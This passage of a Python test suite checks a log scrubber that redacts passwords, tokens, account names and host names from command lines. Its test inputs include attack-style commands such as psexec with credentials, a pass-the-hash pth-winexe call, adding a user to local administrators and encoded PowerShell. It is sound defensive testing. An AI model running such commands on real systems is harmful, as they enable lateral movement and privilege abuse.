    ("psexec.exe \\\\h -u {u} -p \"{s} {s}\" cmd", "punct", ["psexec.exe", "cmd"]),
    ("git config user.password {s}", "punct", ["git config user.password"]),
    ("setx API_TOKEN {s}", "punct", ["setx API_TOKEN"]),
    ("echo {u}:{s} | chpasswd", "alnum", ["echo", "| chpasswd"]),
    ("sudo -u {u} whoami", "alnum", ["sudo -u", "whoami"]),
    ("useradd -m -s /bin/bash {u}", "alnum", ["useradd -m -s /bin/bash"]),
    ("tool.exe /password {s} /quiet", "punct", ["tool.exe /password", "/quiet"]),
    ("agent.exe /token {s} /apikey {s}", "punct", ["agent.exe /token", "/apikey"]),
    ("Connect-X \u2013Password {s} \u2014Credential {s}", "punct", ["Connect-X -Password", "-Credential"]),
    ("app --\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44 {s} --port 1", "punct",
     ["app --password", "--port 1"]),
    (r"C:\export\{u}@corp.com.txt", "alnum", ["C:\\export\\", ".txt"]),
    ("/var/log/{u}@10.0.0.1.log", "alnum", ["/var/log/", ".log"]),
]


@pytest.mark.parametrize(("template", "alphabet", "survivors"), TEMPLATES, ids=[t[0][:40] for t in TEMPLATES])
@PROPERTY
@given(data=st.data())
def test_planted_secret_never_survives(template, alphabet, survivors, data):
    secret = data.draw(SECRET_PUNCT if alphabet == "punct" else SECRET)
    user = data.draw(USER)
    raw = template.format(s=secret, u=user)
    out, n = scrub_text(raw, PSEUDONYMIZER, reduce_url)
    assert secret not in out and user not in out, (raw, out)
    assert "zq" not in out.lower(), (raw, out)
    assert n >= 1
    for keep in survivors:
        assert keep in out, (keep, raw, out)


@PROPERTY
@given(secret=SECRET_PUNCT)
def test_secret_inside_quotes_goes_whole(secret):
    for quote in ('"', "'"):
        raw = f"app --password {quote}{secret} and more{quote} --port 1"
        assert scrub(raw) == f"app --password {quote}{R}{quote} --port 1"


@PROPERTY
@given(lm=st.from_regex(r"[0-9a-f]{32}", fullmatch=True),
       nt=st.from_regex(r"[0-9a-fA-F]{32}", fullmatch=True))
def test_lm_nt_pairs_are_redacted(lm, nt):
    out = scrub(f"pth-winexe -U corp/bob%{lm}:{nt} //10.0.0.5 cmd")
    assert lm not in out and nt not in out and "pth-winexe" in out and "//10.0.0.5 cmd" in out


# --------------------------------------------------------------------------- property: never raises

FRAGMENTS = st.sampled_from([
    " ", "-", "--", "/", "\\", ":", "=", "@", "%40", '"', "'", "\\\"", "(", ")", "{", "}", "|", "&", ";", "`",
    "://", "http", "C:\\Users\\", "/home/", "S-1-5-21-", "-1001", "net use ", "net user ", "-p", "-u",
    "/user:",
    "--password", "-Password", "Authorization: ", "Bearer ", "Cookie:", "password=", "User ID=", "mysql ",
    "ConvertTo-SecureString ", "PSCredential(", "powershell -enc ", "SQBFAFgA", "ssh ", "su ", "/v ", " /d ",
    "aad3b435b51404eeaad3b435b51404ee", "\n", "\x00", "é", "İ", "𝔘", "\ud800",
])


@settings(max_examples=300, deadline=None)
@given(raw=st.one_of(st.text(max_size=200), st.lists(st.one_of(FRAGMENTS, st.text(max_size=6)), max_size=40)
                     .map("".join)))
def test_never_raises_and_returns_text(raw):
    out, n = scrub_text(raw, PSEUDONYMIZER, reduce_url)
    assert isinstance(out, str) and isinstance(n, int) and n >= 0
    assert n > 0 or out == raw


@pytest.mark.parametrize("raw", [
    "a:" * 100_000, "a@" * 100_000, "\\Users\\" * 50_000, "a" * 300_000 + "://x",
    '--password "' + "x" * 300_000, "/p:" * 100_000, "-" * 300_000, "bob:" + "p" * 300_000 + "@",
    "C:\\Users\\" + "a " * 100_000, "password=" * 50_000, "Authorization: " + "x" * 300_000,
    "/v " * 100_000, "S-1-5-21-" + "1-" * 100_000, ("0123456789abcdef" * 2 + ":") * 10_000,
    "su " + "-a " * 100_000,
    "net use " + "x " * 100_000, "echo " + "x" * 100_000 + " | sudo -S",
])
def test_long_hostile_input_is_handled(raw):
    # Guards against catastrophic backtracking: a hang here fails the suite by never finishing.
    # (Speed itself is measured by bench/, never asserted in tests.)
    out, n = scrub_text(raw, PSEUDONYMIZER, lambda url: None)
    assert isinstance(out, str) and n >= 0


def test_reducer_returning_none_redacts_the_url():
    assert scrub_text("wget ftp://bob:pw@h/x -O y", PSEUDONYMIZER, lambda url: None) == (f"wget {R} -O y", 1)


def test_non_string_input_is_turned_into_text():
    assert scrub_text(12345, PSEUDONYMIZER, reduce_url) == ("12345", 0)


@pytest.mark.parametrize("raw", [
    "Connect-X \u2013Verbose caf\u00e9", "\uff41\uff50\uff50 --verbose", "na\u00efve \u2014 text", "\ufb01le.txt",
])
def test_non_ascii_text_without_secrets_is_returned_as_given(raw):
    assert scrub_text(raw, PSEUDONYMIZER, reduce_url) == (raw, 0)


# --------------------------------------------------------------------------- accounts

@pytest.mark.parametrize(("raw", "expected"), [
    (r"CORP\alice", r"CORP\<account:alice>"),
    (r"CORP\Alice", r"CORP\<account:alice>"),
    ("alice@corp.example", "<account:alice>@corp.example"),
    ("alice", "<account:alice>"),
    ("Administrator", "<account:administrator>"),
    (r"DESKTOP-4F2A9\alice", r"<host:desktop-4f2a9>\<account:alice>"),
    (r"MicrosoftAccount\alice@gmail.com", r"MicrosoftAccount\<account:alice>@gmail.com"),
    (r"WORKGROUP\bob", r"WORKGROUP\<account:bob>"),
    ("S-1-5-21-1-2-3-1001", "S-1-5-21-<sid:S-1-5-21-1-2-3-1001>"),
    (r"NT AUTHORITY\SYSTEM", r"NT AUTHORITY\SYSTEM"),
    (r"NT AUTHORITY\LOCAL SERVICE", r"NT AUTHORITY\LOCAL SERVICE"),
    (r"NT AUTHORITY\NETWORK SERVICE", r"NT AUTHORITY\NETWORK SERVICE"),
    (r"NT SERVICE\MSSQLSERVER", r"NT SERVICE\MSSQLSERVER"),
    (r"Window Manager\DWM-1", r"Window Manager\DWM-1"),
    (r"Font Driver Host\UMFD-0", r"Font Driver Host\UMFD-0"),
    ("SYSTEM", "SYSTEM"),
    ("LOCAL SERVICE", "LOCAL SERVICE"),
    ("NETWORK SERVICE", "NETWORK SERVICE"),
    ("root", "root"),
    ("S-1-5-18", "S-1-5-18"),
    ("", ""),
    ("pz-" + "0" * 32, "pz-" + "0" * 32),
    (r"IIS APPPOOL\DefaultAppPool", r"IIS APPPOOL\DefaultAppPool"),
    (r"BUILTIN\Administrators", r"BUILTIN\Administrators"),
    (r"NT AUTHORITY\IUSR", r"NT AUTHORITY\IUSR"),
    (r"NT AUTHORITY\Authenticated Users", r"NT AUTHORITY\Authenticated Users"),
    # under NT AUTHORITY only the well-known names; elsewhere only service-like names
    (r"NT AUTHORITY\alice", r"NT AUTHORITY\<account:alice>"),
    (r"NT AUTHORITY\alice.smith@corp.com pw=LEAK4",
     r"NT AUTHORITY\<account:alice.smith>@<host:corp.com pw=leak4>"),
    (r"NT SERVICE\bob smith", r"NT SERVICE\<account:bob smith>"),
    (r"IIS APPPOOL\pool=LEAK", r"IIS APPPOOL\<account:pool=leak>"),
    (r"BUILTIN\x@LEAKhost", r"BUILTIN\<account:x>@<host:leakhost>"),
    # an empty name does not let the domain through
    ("alice\\", "<account:alice\\>"),
    # after '@': a DNS domain stays, a host name does not
    ("bob@alices-macbook-pro", "<account:bob>@<host:alices-macbook-pro>"),
    (r"CORP\x@LEAK6host", r"CORP\<account:x>@<host:leak6host>"),
    ("alice@corp.example.com", "<account:alice>@corp.example.com"),
    ("alice@10.0.0.1", "<account:alice>@<host:10.0.0.1>"),
    ("root@alices-macbook-pro", "root@<host:alices-macbook-pro>"),
    (r"DESKTOP-4F2A9\SYSTEM", r"<host:desktop-4f2a9>\SYSTEM"),
])
def test_scrub_account(raw, expected):
    assert scrub_account(raw, PSEUDONYMIZER) == expand(expected)


@PROPERTY
@given(user=USER,
       domain=st.sampled_from(["CORP", "ACME", "WORKGROUP", "DESKTOP-ZQ42", "zqAlices-MBP", "PC-1"]))
def test_scrub_account_never_keeps_the_name_or_computer_name(user, domain):
    for raw in (user, f"{domain}\\{user}", f"{user}@corp.example"):
        out = scrub_account(raw, PSEUDONYMIZER)
        assert user not in out and "zq" not in out.lower(), (raw, out)


@pytest.mark.parametrize(("raw", "builtin"), [
    (r"NT AUTHORITY\SYSTEM", True),
    (r"nt authority\network service", True),
    (r"NT SERVICE\MSSQL$SQLEXPRESS", True),
    (r"IIS APPPOOL\DefaultAppPool", True),
    (r"Window Manager\DWM-3", True),
    ("SYSTEM", True),
    (r"NT AUTHORITY\alice.smith@corp.com pw=LEAK4", False),
    (r"NT AUTHORITY\alice", False),
    (r"NT SERVICE\svc pw=LEAK", False),
    (r"IIS APPPOOL\a@b", False),
    (r"BUILTIN\Admins=LEAK", False),
    ("Font Driver Host\\", False),
    ("alice\\", False),
    (r"DESKTOP-4F2A9\root", False),
])
def test_is_builtin_account(raw, builtin):
    assert is_builtin_account(raw) is builtin


@pytest.mark.parametrize("raw", [
    r"NT AUTHORITY\alice.smith@corp.com pw=LEAK4",
    r"NT SERVICE\LEAK pw",
    r"Window Manager\LEAK@host",
    "LEAK\\",
    "bob@LEAK-macbook-pro",
    r"CORP\x@LEAK6host",
])
def test_account_leaks_are_closed(raw):
    assert "leak" not in scrub_account(raw, PSEUDONYMIZER).lower()
    for line in (f'runas /user:"{raw}" cmd', f'net localgroup administrators "{raw}" /add'):
        out = scrub(line)
        assert "leak" not in out.lower(), (line, out)
        assert out.startswith(line.split('"', 1)[0]) and out.endswith(line.rsplit('"', 1)[1]), (line, out)


@PROPERTY
@given(user=USER, secret=SECRET,
       domain=st.sampled_from(["NT AUTHORITY", "NT SERVICE", "IIS APPPOOL", "BUILTIN", "Window Manager",
                               "Font Driver Host", "nt authority"]),
       tail=st.sampled_from(["{u} pw={s}", "{u}@corp.com pw={s}", "{u}@{s}", "{u}={s}", "{u} {s}"]))
def test_nothing_personal_passes_as_built_in(user, secret, domain, tail):
    raw = f"{domain}\\" + tail.format(u=user, s=secret)
    out = scrub_account(raw, PSEUDONYMIZER)
    assert "zq" not in out.lower(), (raw, out)
    assert out.startswith(domain + "\\"), (raw, out)


# --------------------------------------------------------------------------- the cached scrubber

def test_text_scrubber_caches_and_pickles(monkeypatch):
    calls = []

    def counting_reduce(url):
        calls.append(url)
        return reduce_url(url)

    s = TextScrubber(PSEUDONYMIZER, counting_reduce)
    raw = "curl https://bob:pw@x.example.com/a"
    assert s(raw) == s(raw) == ("curl https://x.example.com", 1)
    assert len(calls) == 1
    shipped = TextScrubber(PSEUDONYMIZER, reduce_url)
    shipped(raw)
    assert len(shipped._cache) == 1
    clone = pickle.loads(pickle.dumps(shipped))
    assert clone._cache == {} and clone(raw) == ("curl https://x.example.com", 1)
    monkeypatch.setattr(text_module, "_CACHE_LIMIT", 3)
    small = TextScrubber(PSEUDONYMIZER, reduce_url)
    for i in range(7):
        small(f"line {i}")
    assert 1 <= len(small._cache) <= 3


def test_format_characters_anywhere_do_not_hide_an_address():
    """Zero-width characters between every letter, also next to `@` and `.`: the text rules read the
    address without them (issue 13, independent hostile corpus)."""
    marks = "\u200b\u200c\u200d\u2060"
    address = "zqbobby47@contoso.example"
    hidden = "".join(ch + marks[i % 4] for i, ch in enumerate(address[:-1])) + address[-1]
    out, n = scrub_text(f"mail to {hidden}", PSEUDONYMIZER, reduce_url)
    assert n >= 1 and "zqbobby47" not in out.replace("\u200b", "").replace("\u200c", "").replace(
        "\u200d", "").replace("\u2060", "")
